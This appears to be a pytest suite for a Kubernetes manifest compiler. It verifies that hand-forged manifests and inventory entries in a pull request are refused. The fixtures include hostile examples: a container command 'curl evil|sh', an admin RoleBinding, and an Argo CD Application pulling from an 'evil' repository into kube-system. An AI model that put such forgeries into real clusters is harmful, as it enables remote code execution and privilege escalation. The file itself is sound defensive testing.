"""Forged runs: a pull request with manifests and inventory written by hand must not pass a check."""

import json
import os
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from typer.testing import Result

from stowplan.library.manifest import Json
from tests.hostile.forged_runs import FILES, SYNC, Repository, container, older
from tests.unit.outputs import in_one_file, list_files

FOLDER = "ml/sampleset-imagenet"
CONFIG = f"{FOLDER}/configmap-imagenet-sampleset-sync.yaml"
LABELS = {"stowplan.dev/kind": "SampleSet", "stowplan.dev/name": "imagenet"}


@pytest.fixture(scope="module")
def compiled(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A repository whose output is committed on `main`."""
    folder = tmp_path_factory.mktemp("compiled")
    for name, text in FILES.items():
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text(text)
    repo = Repository(folder)
    assert repo.run("synth").exit_code == 0
    repo.git("init", "-q", "-b", "main")
    repo.commit("Compile")
    return folder


@pytest.fixture
def repo(compiled: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Repository:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    return Repository(Path(shutil.copytree(compiled, tmp_path / "repo")))


def role_binding(**meta: Any) -> Json:
    return {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "RoleBinding",
        "metadata": {"name": "imagenet-sync-aaaaaaaa", "namespace": "ml", "labels": LABELS, **meta},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "admin"},
        "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": "ml"}],
    }


def smuggle_application(repo: Repository) -> None:
    spec = {
        "project": "default",
        "source": {"repoURL": "https://github.com/evil/evil", "path": "."},
        "destination": {"server": "https://kubernetes.default.svc", "namespace": "kube-system"},
    }
    meta = {"name": "evil-aaaaaaaa", "namespace": "argocd", "labels": LABELS}
    body = {"apiVersion": "argoproj.io/v1alpha1", "kind": "Application", "metadata": meta, "spec": spec}
    repo.forge("argocd/application-evil.yaml", body)


def edit_job(repo: Repository) -> None:
    repo.change(SYNC, lambda body: container(body).update(command=["sh", "-c", "curl evil|sh"]))


def edit_job_of_this_version(repo: Repository) -> None:
    mark = repo.entries()[SYNC].compiled
    assert mark
    repo.change(SYNC, lambda body: container(body).update(image="evil"), compiled=mark)


def add_role_binding(repo: Repository) -> None:
    repo.forge(f"{FOLDER}/rolebinding-imagenet-sync.yaml", role_binding())


def add_config_map(repo: Repository) -> None:
    meta = {"name": "imagenet-more-aaaaaaaa", "namespace": "ml", "labels": LABELS}
    body = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": meta, "data": {"a": "b"}}
    repo.forge(f"{FOLDER}/configmap-imagenet-more.yaml", body)


def add_job_elsewhere(repo: Repository) -> None:
    body = repo.body()
    body["metadata"]["namespace"] = "kube-system"
    body["spec"]["template"]["spec"]["serviceAccountName"] = "clusterrole-aggregation-controller"
    repo.forge("kube-system/sampleset-imagenet/job-imagenet-sync.yaml", body)


def add_to_another_folder(repo: Repository) -> None:
    repo.forge("ml/sampleset-quiet/rolebinding-imagenet-sync.yaml", role_binding())


def add_below_the_folder(repo: Repository) -> None:
    repo.forge(f"{FOLDER}/deeper/rolebinding-imagenet-sync.yaml", role_binding())


def add_without_labels(repo: Repository) -> None:
    repo.forge(f"{FOLDER}/rolebinding-imagenet-sync.yaml", role_binding(labels={}))


def rename_job(repo: Repository) -> None:
    repo.change(SYNC, lambda body: body["metadata"].update(name="another-aaaaaaaa"))


def drop_labels(repo: Repository) -> None:
    repo.change(SYNC, lambda body: body["metadata"].update(labels={}))


def another_kind(repo: Repository) -> None:
    repo.change(SYNC, lambda body: body.update(role_binding(), spec=None) or body.pop("spec"))


def give_a_run_to_a_spec_without_one(repo: Repository) -> None:
    body = repo.body()
    body["metadata"] |= {"name": "quiet-sync-aaaaaaaa", "labels": {**LABELS, "stowplan.dev/name": "quiet"}}
    like = repo.entries()["ml/sampleset-quiet/sampleset-quiet.yaml"]
    path = "ml/sampleset-quiet/job-quiet-sync.yaml"
    repo.forge(path, body, spec=like.spec, spec_digest=like.spec_digest)


WITHOUT_BASE = (
    add_role_binding,
    add_config_map,
    smuggle_application,
    add_job_elsewhere,
    add_to_another_folder,
    add_below_the_folder,
    add_without_labels,
    rename_job,
    drop_labels,
    another_kind,
    edit_job_of_this_version,
    give_a_run_to_a_spec_without_one,
)
"""Forgeries that are refused even where nothing is there to compare with."""


def assert_refused(done: Result) -> None:
    assert done.exit_code == 1
    assert "SP519" in done.output


@pytest.mark.parametrize("forge", [edit_job, *WITHOUT_BASE])
def test_forged_run_is_neither_kept_nor_compiled_anew(repo: Repository, forge: Callable[[Repository], None]) -> None:
    forge(repo)
    repo.commit("Forge")
    done = repo.check("HEAD^")
    assert_refused(done)
    assert "--recompile 'SampleSet ml/" in done.output.replace("\n", " ").replace("  ", " ")
    if forge is not edit_job:
        assert_refused(repo.check(None))
        assert_refused(repo.run("synth"))
    assert repo.git("status", "--porcelain") == ""


@pytest.mark.parametrize("forge", [smuggle_application, rename_job, drop_labels, add_job_elsewhere])
def test_base_does_not_vouch_for_what_cannot_be_a_run(repo: Repository, forge: Callable[[Repository], None]) -> None:
    forge(repo)
    repo.commit("Merged before this was checked")
    assert "SP519" in repo.check("HEAD").output


def test_repository_inside_of_the_output_vouches_for_nothing(repo: Repository, tmp_path: Path) -> None:
    """Git takes a folder with certain files for a bare repository. This one has a base with the forged run."""
    repo.git("branch", "base")
    edit_job(repo)
    other = Repository(Path(shutil.copytree(repo.out, tmp_path / "other")))
    other.git("init", "-q", "-b", "base")
    other.commit("Forge")
    other.git("config", "core.bare", "true")
    (repo.out / "refs/heads").mkdir(parents=True)
    for name in ("HEAD", "config", "refs/heads/base"):
        shutil.copy(other.folder / ".git" / name, repo.out / name)
    shutil.copytree(other.folder / ".git/objects", repo.out / "objects")
    repo.commit("Forge")
    assert_refused(repo.check("base"))


def nothing(_: Repository) -> None:
    pass


@pytest.mark.parametrize("forge", [edit_job, nothing])
@pytest.mark.parametrize("held", [True, False])
def test_repository_in_the_place_of_the_output_vouches_for_nothing(
    repo: Repository, forge: Callable[[Repository], None], *, held: bool
) -> None:
    """As a submodule that is checked out, or a folder that Git does not hold: its branch `base` has what is there."""
    repo.git("branch", "base")
    forge(repo)
    own = Repository(repo.out)
    own.git("init", "-q", "-b", "base")
    own.commit("Forge")
    repo.git("rm", "-q", "-r", "--cached", "out")
    if held:
        repo.git("add", "out")
    repo.git("commit", "-q", "-m", "Forge")
    done = repo.check("base")
    if forge is edit_job:
        assert_refused(done)
    else:
        assert (done.exit_code, "SP538" in done.output) == (int(held), held)
    said = repo.run("diff", "--base", "base", "--format", "json")
    assert said.exit_code == 0
    assert bool(json.loads(said.output)["changes"]) == (forge is edit_job)


def test_recompiling_makes_a_forged_run_what_the_specs_say(repo: Repository) -> None:
    for forge in (edit_job, add_role_binding, smuggle_application):
        forge(repo)
    assert repo.run("synth", "--recompile", "SampleSet ml/imagenet").exit_code == 0
    assert repo.git("status", "--porcelain") == ""
    assert repo.check("HEAD").exit_code == 0


def test_external_references_of_a_kept_run_come_from_its_spec(repo: Repository) -> None:
    """An entry of the inventory cannot say that a Secret or an account exists which nobody asked for."""

    def ask(body: Json) -> None:
        body["spec"]["template"]["spec"]["serviceAccountName"] = "clusterrole-aggregation-controller"

    named = ({"kind": "ServiceAccount", "namespace": "ml", "name": "clusterrole-aggregation-controller"},)
    repo.change(SYNC, ask, externals=())
    path = repo.out / "_inventory/ml/sampleset-imagenet.jsonl"
    lines = path.read_text().splitlines(keepends=True)
    forged = [
        json.dumps({**json.loads(line), "externals": named}, sort_keys=True) + "\n" if f'"{SYNC}"' in line else line
        for line in lines
    ]
    path.write_text("".join(forged))
    done = repo.check(None)
    assert done.exit_code == 1
    assert "SP506" in done.output


def forge_mark(repo: Repository) -> None:
    repo.list(repo.entries()[SYNC]._replace(compiled="f" * 32))


def forge_spec_digest(repo: Repository) -> None:
    repo.list(
        *(each._replace(spec_digest="0" * 64) for each in repo.entries().values() if each.path.startswith(FOLDER))
    )


def list_what_is_not_there(repo: Repository) -> None:
    entry = repo.entries()[SYNC]
    path = f"{FOLDER}/role-imagenet-sync.yaml"
    repo.list(entry._replace(path=path, id=entry.id._replace(kind="Role", group="rbac.authorization.k8s.io")))


@pytest.mark.parametrize("forge", [forge_mark, forge_spec_digest, list_what_is_not_there])
@pytest.mark.parametrize("base", ["HEAD", None])
def test_forged_inventory_alone_is_a_difference(
    repo: Repository, forge: Callable[[Repository], None], base: str | None
) -> None:
    forge(repo)
    assert repo.check(base).exit_code == 1


def test_run_of_the_base_under_an_edited_spec_is_refused(repo: Repository) -> None:
    """The digest of the spec is forged so that the old run passes for that of the new spec."""
    older(repo)
    repo.commit("Compiled by another version")
    old = repo.entries()[SYNC]
    saved = (repo.out / SYNC).read_bytes()
    repo.edit("specs/imagenet.yaml", "s3://bucket/imagenet", "s3://bucket/other")
    assert repo.run("synth").exit_code == 0
    new = repo.entries()[SYNC].spec_digest
    (repo.out / SYNC).write_bytes(saved)
    repo.list(old._replace(spec_digest=new))
    done = repo.check("HEAD")
    assert done.exit_code == 1
    assert "SP519" in done.output


def test_revert_to_a_run_of_another_version_is_refused(repo: Repository) -> None:
    older(repo)
    repo.commit("Compiled by another version")
    repo.edit("specs/imagenet.yaml", "s3://bucket/imagenet", "s3://bucket/other")
    assert repo.run("synth").exit_code == 0
    repo.commit("Read another bucket")
    repo.git("revert", "--no-edit", "HEAD")
    done = repo.check("HEAD^")
    assert done.exit_code == 1
    assert "SP519" in done.output
    assert repo.run("synth", "--recompile", "imagenet").exit_code == 0
    assert repo.check("HEAD^").exit_code == 0


def test_honest_upgrade_is_accepted_and_nothing_runs_again(repo: Repository) -> None:
    older(repo)
    repo.commit("Compiled by another version")
    repo.edit("stowplan.yaml", 'tag: "1"', 'tag: "2"')
    for options in ((), ("--base", "HEAD")):
        done = repo.run("synth", *options)
        assert (done.exit_code, "starts when synced" in done.output) == (0, False)
    repo.commit("Upgrade")
    assert container(repo.body())["image"].endswith(":0")
    assert repo.check("HEAD^").exit_code == 0
    assert repo.check(None).exit_code == 0


def test_file_of_a_run_that_is_no_longer_compiled_is_kept_where_the_base_has_it(repo: Repository) -> None:
    older(repo)
    add_config_map(repo)
    repo.commit("Compiled by another version")
    assert repo.run("synth", "--base", "HEAD").exit_code == 0
    assert repo.git("status", "--porcelain") == ""
    assert repo.check("HEAD").exit_code == 0
    done = repo.run("synth")
    assert "--base origin/main" in done.output.replace("\n", " ")
    assert repo.git("status", "--porcelain") == ""


def test_what_a_synth_with_a_base_wrote_is_not_remembered_for_one_without(repo: Repository) -> None:
    add_config_map(repo)
    repo.commit("Forge")
    assert repo.run("synth", "--base", "HEAD").exit_code == 0
    assert "SP519" in repo.run("synth").output


def test_inventory_of_the_first_version_is_enough(repo: Repository) -> None:
    """It does not say what compiled a run."""
    older(repo)
    repo.list(*(entry._replace(compiled="") for entry in repo.entries().values()))
    assert '"compiled"' not in in_one_file(repo.out).read_text()
    repo.commit("Compiled by the first version")
    done = repo.run("synth")
    assert (done.exit_code, "starts when synced" in done.output) == (0, False)
    assert repo.git("status", "--porcelain").splitlines() == ["D out/inventory.jsonl", "?? out/_inventory/"]
    assert repo.check("HEAD").exit_code == 0


def remove(repo: Repository, path: str) -> None:
    (repo.out / path).unlink()
    known = repo.entries()
    del known[path]
    list_files(repo.out, known.values())


@pytest.mark.parametrize("base", ["HEAD", None])
def test_run_that_lacks_a_file_is_a_difference(repo: Repository, base: str | None) -> None:
    remove(repo, CONFIG)
    done = repo.check(base)
    assert done.exit_code == 1
    assert repo.run("synth").exit_code == 0
    assert repo.git("status", "--porcelain") == ""


def test_old_run_that_lacks_a_file_of_the_base_is_refused(repo: Repository) -> None:
    older(repo)
    repo.commit("Compiled by another version")
    remove(repo, CONFIG)
    repo.commit("Take away what the run reads")
    done = repo.check("HEAD^")
    assert done.exit_code == 1
    assert "SP519" in done.output


def test_run_of_another_engine_is_kept_where_the_base_has_it(repo: Repository) -> None:
    repo.edit("stowplan.yaml", "argocd:", "engines: {jobs: jobset}\nargocd:")
    assert "SP519" in repo.run("synth").output
    assert repo.run("synth", "--base", "HEAD").exit_code == 0
    repo.commit("Change the engine")
    assert (repo.out / "ml/paddlejob-train/job-train-paddlejob-worker.yaml").is_file()
    assert repo.check("HEAD^").exit_code == 0


def test_new_run_is_accepted_as_it_is_compiled(repo: Repository) -> None:
    text = (repo.folder / "specs/imagenet.yaml").read_text().replace("name: imagenet", "name: new")
    (repo.folder / "specs/new.yaml").write_text(text.replace("{name: volume}", "{name: new-volume}"))
    repo.edit("specs/imagenet.yaml", "s3://bucket/imagenet", "s3://bucket/other")
    assert repo.run("synth").exit_code == 0
    repo.commit("Add a dataset")
    assert repo.check("HEAD^").exit_code == 0


def move_spec(repo: Repository) -> None:
    (repo.folder / "specs/train.yaml").rename(repo.folder / "specs/moved.yaml")


def edit_dataset(repo: Repository) -> None:
    repo.edit("specs/imagenet.yaml", "partitions: 1", "partitions: 2")


def edit_platform(repo: Repository) -> None:
    repo.edit("stowplan.yaml", 'tag: "1"', 'tag: "2"')


@pytest.mark.parametrize("edit", [move_spec, edit_dataset, edit_platform])
def test_training_goes_on_after_an_edit_that_is_not_its_own(
    repo: Repository, edit: Callable[[Repository], None]
) -> None:
    before = (repo.out / "ml/paddlejob-train/job-train-paddlejob-worker.yaml").read_bytes()
    edit(repo)
    assert repo.run("synth").exit_code == 0
    assert (repo.out / "ml/paddlejob-train/job-train-paddlejob-worker.yaml").read_bytes() == before
    repo.commit()
    for base in ("HEAD^", None):
        done = repo.check(base)
        assert done.exit_code == 0, done.output


def test_without_output_in_the_base_everything_must_be_compiled_now(repo: Repository) -> None:
    tree = repo.git("hash-object", "-t", "tree", "-w", "/dev/null")
    empty = repo.git("commit-tree", "-m", "x", tree)
    for base in (empty, "0" * 40):
        assert repo.check(base).exit_code == 0
    older(repo)
    for base in (empty, "0" * 40):
        assert "SP519" in repo.check(base).output


@pytest.mark.parametrize("revision", ["nothing", "", "--all", "HEAD:out", "f" * 40])
def test_unknown_base_is_wrong_usage(repo: Repository, revision: str) -> None:
    done = repo.run("synth", "--check", f"--base={revision}")
    assert done.exit_code == 2
    assert f"no commit {revision}" in done.output.replace("\n", " ")
    assert "Traceback" not in done.output


def test_base_that_a_shallow_clone_lacks_is_wrong_usage(repo: Repository, tmp_path: Path) -> None:
    first = repo.git("rev-parse", "HEAD")
    repo.git("commit", "-qm", "x", "--allow-empty")
    command = ["git", "clone", "-q", "--depth", "1", repo.folder.as_uri(), str(tmp_path / "shallow")]
    subprocess.run(command, check=True, capture_output=True)
    done = Repository(tmp_path / "shallow").check(first)
    assert done.exit_code == 2
    assert "fetch-depth: 0" in done.output


def test_base_outside_of_git_is_wrong_usage(repo: Repository) -> None:
    shutil.rmtree(repo.folder / ".git")
    done = repo.check("HEAD")
    assert done.exit_code == 2
    assert "not a git repository" in done.output


@pytest.mark.parametrize("value", ["true", "1", "yes"])
def test_check_in_ci_needs_a_base(repo: Repository, monkeypatch: pytest.MonkeyPatch, value: str) -> None:
    monkeypatch.setenv("CI", value)
    done = repo.check(None)
    assert done.exit_code == 1
    assert "SP526" in done.output
    assert repo.check("HEAD").exit_code == 0
    assert repo.run("synth").exit_code == 0


@pytest.mark.parametrize("value", ["", "false", "False", "0", None])
def test_check_outside_of_ci_works_without_a_base(
    repo: Repository, monkeypatch: pytest.MonkeyPatch, value: str | None
) -> None:
    if value is not None:
        monkeypatch.setenv("CI", value)
    assert "CI" in os.environ or value is None
    assert repo.check(None).exit_code == 0


@pytest.mark.parametrize("forge", [edit_job, add_config_map])
def test_review_shows_a_forged_run_first_of_its_risks(repo: Repository, forge: Callable[[Repository], None]) -> None:
    forge(repo)
    repo.commit("Forge")
    done = repo.run("diff", "--base", "HEAD^", "--format", "json")
    assert done.exit_code == 0, done.output
    changes = json.loads(done.output)["changes"]
    first = changes[0]["risks"][0]
    assert (first["danger"], "Nobody vouches" in first["text"]) == ("security", True)


def test_review_says_nothing_of_a_run_that_is_kept(repo: Repository) -> None:
    older(repo)
    repo.commit("Compiled by another version")
    for base in ([], ["--base", "HEAD"]):
        assert repo.run("diff", *base).output == "The output does not change\n"
